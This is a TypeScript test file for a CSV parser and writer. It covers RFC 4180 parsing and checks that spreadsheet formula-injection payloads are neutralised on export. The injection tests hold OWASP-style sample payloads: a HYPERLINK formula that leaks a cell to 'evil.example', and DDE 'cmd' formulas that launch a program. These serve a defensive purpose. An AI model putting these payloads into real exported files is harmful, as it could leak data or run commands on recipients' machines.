import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, parseCsv, restoreCell, writeCsv } from '../../../src/shared/workspace/csv';

const fieldsOf = (text: string) => parseCsv(text).records.map((r) => r.fields);

describe('parseCsv (RFC 4180)', () => {
  it('reads plain records with CRLF or LF line ends and ignores a final line break', () => {
    expect(fieldsOf('a,b,c\r\n1,2,3\r\n')).toEqual([
      ['a', 'b', 'c'],
      ['1', '2', '3'],
    ]);
    expect(fieldsOf('a,b\n1,2')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  it('handles quoted commas, doubled quotes and line breaks inside quotes', () => {
    const result = parseCsv('name,note\r\n"ACME, Inc.","He said ""hi""\nsecond line"\r\nlast,x\r\n');
    expect(result.errors).toEqual([]);
    expect(result.records.map((r) => r.fields)).toEqual([
      ['name', 'note'],
      ['ACME, Inc.', 'He said "hi"\nsecond line'],
      ['last', 'x'],
    ]);
    expect(result.records.map((r) => [r.row, r.line])).toEqual([
      [1, 1],
      [2, 2],
      [3, 4],
    ]);
  });

  it('keeps empty fields and strips a byte-order mark', () => {
    expect(fieldsOf('\uFEFFa,,c\n,,\n')).toEqual([
      ['a', '', 'c'],
      ['', '', ''],
    ]);
  });

  it('reports an unterminated quote with the row where it starts', () => {
    const result = parseCsv('a,b\n1,"open\n2,3\n');
    expect(result.errors).toHaveLength(1);
    expect(result.errors[0]).toMatchObject({ row: 2, line: 2 });
    expect(result.errors[0]!.message).toMatch(/never closed/);
  });

  it('reports text after a closing quote', () => {
    const result = parseCsv('a\n"x"y\n');
    expect(result.errors[0]).toMatchObject({ row: 2 });
    expect(result.errors[0]!.message).toMatch(/after a closing quote/);
  });

  it('round-trips any table of strings through writeCsv', () => {
    const cell = fc.string({
      unit: fc.constantFrom('a', 'Z', ' ', ',', '"', '\n', '\r', 'é', '1', '=', '+', '-', '@', '\t', "'"),
    });
    fc.assert(
      fc.property(
        fc
          .integer({ min: 1, max: 4 })
          .chain((width) =>
            fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }),
          ),
        (rows) => {
          // A record of one empty field is indistinguishable from a blank line (RFC 4180 has no way to say it).
          fc.pre(rows.every((r) => !(r.length === 1 && r[0] === '')));
          const parsed = parseCsv(writeCsv(rows));
          expect(parsed.errors).toEqual([]);
          expect(parsed.records.map((r) => r.fields)).toEqual(rows);
        },
      ),
    );
  });
});

describe('formula injection (OWASP CSV injection guidance)', () => {
  const formulas = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];

  it.each(formulas)('writes %j as quoted text behind a single quote', (value) => {
    const text = writeCsv([['name'], [value]]);
    const cell = text.slice('name\r\n'.length, -2);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(cell).toBe(`"'${value.replace(/"/g, '""')}"`);
  });

  it.each(formulas)('reads the neutralised %j back as the original string', (value) => {
    expect(fieldsOf(writeCsv([['name'], [value]]))).toEqual([['name'], [value]]);
  });

  it('leaves ordinary cells alone, including a quote that does not guard a formula', () => {
    expect(writeCsv([['ACME', "O'Brien", "'quoted", 'a=b', '']])).toBe(`ACME,O'Brien,'quoted,a=b,\r\n`);
    expect(fieldsOf("'quoted,a=b\n")).toEqual([["'quoted", 'a=b']]);
  });

  it('keeps values that already start with guard quotes unambiguous', () => {
    expect(neutraliseCell("'=1")).toBe("''=1");
    expect(restoreCell("''=1")).toBe("'=1");
    expect(fieldsOf(writeCsv([["'=1", "''+x"]]))).toEqual([["'=1", "''+x"]]);
  });

  it('reads a hand-written guarded cell as plain text, never as something to run', () => {
    expect(fieldsOf("name\n'=1+1\n")).toEqual([['name'], ['=1+1']]);
  });

  it('restoreCell undoes neutraliseCell for any string', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ') }),
        (v) => {
          expect(restoreCell(neutraliseCell(v))).toBe(v);
          if (/^[=+\-@\t\r]/.test(v)) expect(neutraliseCell(v)).toBe(`'${v}`);
        },
      ),
    );
  });
});
